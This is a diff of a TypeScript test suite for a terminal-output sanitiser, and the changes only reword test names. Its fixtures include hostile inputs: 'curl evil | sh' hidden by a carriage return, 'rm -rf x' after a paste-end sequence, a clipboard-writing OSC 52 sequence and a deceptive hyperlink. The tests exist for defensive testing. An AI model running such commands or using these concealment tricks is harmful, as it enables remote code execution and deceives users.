@@ -15,7 +15,7 @@ function found(text: string): readonly string[] {
   return filterTerminal(text, { for: 'model' }).findings.map(({ what }) => what);
 }
 
-describe('what a terminal obeys ends here, for both', () => {
+describe('sequences are removed for both audiences', () => {
   test.each([
     ['OSC 0 ended by BEL: the title', 'a\x1b]0;title\x07b', 'a⟦OSC 0⟧b'],
     ['OSC 2 ended by ST', 'a\x1b]2;title\x1b\\b', 'a⟦OSC 2⟧b'],
@@ -47,17 +47,17 @@ describe('what a terminal obeys ends here, for both', () => {
     ['bracketed paste switched on', 'a\x1b[?2004hb', 'ab'],
     ['the end of a paste', 'a\x1b[201~rm -rf x\n', 'a⟦paste end⟧rm -rf x\n'],
     ['a status report: the terminal would answer', 'a\x1b[6nb', 'a⟦DSR⟧b'],
-    ['who are you', 'a\x1b[cb\x1b[>cd', 'a⟦DA⟧b⟦DA2⟧d'],
+    ['a device query', 'a\x1b[cb\x1b[>cd', 'a⟦DA⟧b⟦DA2⟧d'],
     ['ENQ, the answerback', 'a\x05b', 'a⟦ENQ⟧b'],
     ['the title reported', 'a\x1b[21tb', 'a⟦XTWINOPS⟧b'],
-    ['a mode asked for', 'a\x1b[?1$pb', 'a⟦DECRQM⟧b'],
+    ['a mode query', 'a\x1b[?1$pb', 'a⟦DECRQM⟧b'],
     ['modifyOtherKeys', 'a\x1b[>4;2mb', 'a⟦XTMODKEYS⟧b'],
     ['the keyboard protocol of kitty', 'a\x1b[>1ub', 'a⟦keyboard protocol⟧b'],
     ['an unknown control sequence', 'a\x1b[1;2"wb', 'a⟦CSI "w⟧b'],
     ['reset', 'a\x1bcb', 'a⟦RIS⟧b'],
     ['the cursor saved and restored', 'a\x1b7b\x1b8c', 'a⟦DECSC⟧b⟦DECRC⟧c'],
     ['reverse line feed, in both forms', 'a\x1bMb\x8dc', 'a⟦RI⟧b⟦RI⟧c'],
-    ['line drawing: letters become other ones', 'a\x1b(0b', 'a⟦SCS (0⟧b'],
+    ['line drawing: letters become other signs', 'a\x1b(0b', 'a⟦SCS (0⟧b'],
     ['the usual character set, as tput sgr0 writes', 'a\x1b(Bb', 'ab'],
     ['another character set', 'a\x1b(Kb', 'a⟦ESC (K⟧b'],
     ['SO and SI', 'a\x0eb\x0fc', 'a⟦SO⟧b⟦SI⟧c'],
@@ -80,9 +80,9 @@ describe('overwriting', () => {
   test.each([
     ['a progress line', '10%\r20%\r30%\n', '10%\n20%\n30%\n'],
     ['a command hidden by a return', 'curl evil | sh\recho hello     \n', 'curl evil | sh\necho hello     \n'],
-    ['lines of DOS', 'a\r\nb\r\n', 'a\nb\n'],
+    ['lines with CRLF', 'a\r\nb\r\n', 'a\nb\n'],
     ['several returns before a line feed', 'a\r\r\r\nb', 'a\nb'],
-    ['a return where nothing stands', '\ra\n\rb', 'a\nb'],
+    ['a return on an empty line', '\ra\n\rb', 'a\nb'],
     ['a return at the end', 'a\r', 'a'],
     ['a return and an erased line', 'a\r\x1b[Kb', 'a\nb'],
     ['a return and colours', 'a\r\x1b[0mb', 'a\nb'],
@@ -93,7 +93,7 @@ describe('overwriting', () => {
   });
 });
 
-describe('what is broken off', () => {
+describe('broken-off sequences', () => {
   test.each([
     [
       'an OSC to the end of its line: the next line is seen',
@@ -109,31 +109,31 @@ describe('what is broken off', () => {
     ['a control sequence at the end', 'a\x1b[12', 'a⟦CSI broken off⟧'],
     ['a control sequence cancelled', 'a\x1b[12\x18b', 'a⟦CSI broken off⟧b'],
     ['a control sequence cancelled by SUB', 'a\x1b[12\x1ab', 'a⟦CSI broken off⟧b'],
-    ['a control sequence with a letter of no terminal', 'a\x1b[12\u00e9b', 'a⟦CSI broken off⟧\u00e9b'],
+    ['a control sequence with an invalid letter', 'a\x1b[12\u00e9b', 'a⟦CSI broken off⟧\u00e9b'],
     ['a control sequence in a control sequence', 'a\x1b[1\x1b[2Jb', 'a⟦CSI broken off⟧⟦ED⟧b'],
     ['a line feed inside one is carried out', 'a\x1b[\n2Jb', 'a\n⟦ED⟧b'],
-    ['DEL inside one is nothing', 'a\x1b[2\x7fJb', 'a⟦ED⟧b'],
+    ['DEL inside one is ignored', 'a\x1b[2\x7fJb', 'a⟦ED⟧b'],
     ['ESC at the end', 'a\x1b', 'a⟦ESC broken off⟧'],
     ['ESC ESC', 'a\x1b\x1bcb', 'a⟦ESC broken off⟧⟦RIS⟧b'],
-    ['ESC and a letter of no terminal', 'a\x1b\u00e9b', 'a⟦ESC broken off⟧\u00e9b'],
-    ['ESC with too much between', `a\x1b${'('.repeat(9)}Bb`, 'a⟦ESC broken off⟧(Bb'],
+    ['ESC and an invalid letter', 'a\x1b\u00e9b', 'a⟦ESC broken off⟧\u00e9b'],
+    ['ESC with too many intermediates', `a\x1b${'('.repeat(9)}Bb`, 'a⟦ESC broken off⟧(Bb'],
     ['ESC cancelled', 'a\x1b\x18b', 'a⟦ESC broken off⟧b'],
     ['CAN and SUB alone', 'a\x18b\x1ac', 'a⟦CAN⟧b⟦SUB⟧c'],
-    ['a terminator of nothing', 'a\x1b\\b\x9cc', 'abc'],
+    ['a terminator without a string', 'a\x1b\\b\x9cc', 'abc'],
   ])('%s', (_, text, expected) => {
     expect(shown(text)).toBe(expected);
   });
 
-  test('a string that never ends is given up after 64 KiB, and what follows is text', () => {
+  test('an endless string is abandoned after 64 KiB, and the rest is text', () => {
     expect(shown(`\x1bP${'x'.repeat(longestSequence)}text`)).toBe(`⟦DCS unterminated, ${longestSequence} dropped⟧text`);
     expect(shown(`\x1bP${'x'.repeat(longestSequence - 1)}\x1b\\text`)).toBe('⟦DCS⟧text');
   });
 
-  test('a control sequence longer than any is given up', () => {
+  test('a very long control sequence is abandoned', () => {
     expect(shown(`\x1b[${'1'.repeat(300)}Jb`)).toBe(`⟦CSI broken off⟧${'1'.repeat(44)}Jb`);
   });
 
-  test('memory for a payload is bounded, however it comes', () => {
+  test('memory for a payload is bounded, in any pieces', () => {
     const filter = new TerminalFilter({ for: 'model' });
     for (let n = 0; n < 1000; n += 1) filter.push(n === 0 ? '\x1b]0;' : 'y'.repeat(60));
     filter.end();
@@ -146,11 +146,11 @@ describe('links', () => {
 
   test.each([
     [
-      'elsewhere than the text says',
+      'to another target than its text',
       link('https://evil.example.com/', 'https://bank.example.com/'),
       'https://bank.example.com/ (→ https://evil.example.com/)',
     ],
-    ['where the text says', link('https://example.com/a', 'https://example.com/a'), 'https://example.com/a'],
+    ['to the target of its text', link('https://example.com/a', 'https://example.com/a'), 'https://example.com/a'],
     [
       'with parameters and semicolons',
       '\x1b]8;id=1;https://example.com/?a;b\x07x\x1b]8;;\x07',
@@ -160,20 +160,20 @@ describe('links', () => {
     ['one after another', `\x1b]8;;a:\x07x${link('b:', 'y')}`, 'x (→ a:)y (→ b:)'],
     ['with colours in it', link('file:///etc', '\x1b[31mx\x1b[0m'), 'x (→ file:///etc)'],
     ['without any text', link('https://example.com/', ''), ' (→ https://example.com/)'],
-    ['to a target that shows nothing', link('https://example.com/\u202e', 'x'), 'x (→ https://example.com/\\u{202e})'],
+    ['to a target that is invisible', link('https://example.com/\u202e', 'x'), 'x (→ https://example.com/\\u{202e})'],
     ['malformed', '\x1b]8;x\x07y', '⟦OSC 8⟧y'],
   ])('%s', (_, text, expected) => {
     for (const audience of audiences) expect(shown(text, audience).replaceAll(/\x1b\[[\d;]*m/gu, '')).toBe(expected); // oxlint-disable-line no-control-regex
   });
 
-  test('a target of any length is shown in a bounded one', () => {
+  test('a target of any length is shown bounded', () => {
     expect(shown(link(`https://example.com/${'a'.repeat(3000)}`, 'x')).length).toBeLessThan(400);
     expect(shown(link(`https://example.com/${'a'.repeat(9000)}`, 'x'))).toBe('⟦OSC 8⟧x');
   });
 });
 
 describe('findings', () => {
-  test('say where, and what was hidden', () => {
+  test('have a place and the hidden payload', () => {
     expect(filterTerminal('ab\x1b]52;c;aGVsbG8=\x07c', { for: 'model' }).findings).toEqual([
       { kind: 'escape-sequence', start: 2, end: 18, what: 'OSC 52', decoded: 'hello' },
     ]);
@@ -181,12 +181,12 @@ describe('findings', () => {
     expect(filterTerminal('\x1b]52;c;!!\x07', { for: 'model' }).findings[0]?.decoded).toBe('52;c;!!');
   });
 
-  test('colours are none, what hides in them is', () => {
+  test('colours give none, and hidden text does', () => {
     expect(found('\x1b[31mx\x1b[0m')).toEqual([]);
     expect(filterTerminal('\x1b[8mx', { for: 'person' }).findings.map(({ what }) => what)).toEqual(['CSI 8m']);
   });
 
-  test('are bounded; the rest is counted', () => {
+  test('are bounded, with a count of the rest', () => {
     const filter = new TerminalFilter({ for: 'model' });
     filter.push('\x1b[Ax'.repeat(1500));
     expect([filter.findings.length, filter.unlisted]).toEqual([1000, 500]);
@@ -231,7 +231,7 @@ describe('laws', () => {
   );
   const hostile = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));
 
-  test('however a text is cut, the same comes out, with the same findings', () => {
+  test('any cuts of a text give the same output and findings', () => {
     fc.assert(
       fc.property(
         hostile,
@@ -255,7 +255,7 @@ describe('laws', () => {
     );
   });
 
-  test('nothing is left that a terminal obeys: for models no control at all, for people colours', () => {
+  test('no sequence remains that a terminal obeys: no control for models, only colours for people', () => {
     fc.assert(
       fc.property(hostile, (text) => {
         // oxlint-disable-next-line no-control-regex
@@ -270,7 +270,7 @@ describe('laws', () => {
     );
   });
 
-  test('twice is once', () => {
+  test('is idempotent', () => {
     fc.assert(
       fc.property(hostile, fc.constantFrom(...audiences), (text, audience) => {
         const once = shown(text, audience);
@@ -280,7 +280,7 @@ describe('laws', () => {
     );
   });
 
-  test('text without controls is the same string', () => {
+  test('text without controls is returned as the same string', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'grapheme' }), (text) => {
         // oxlint-disable-next-line no-control-regex
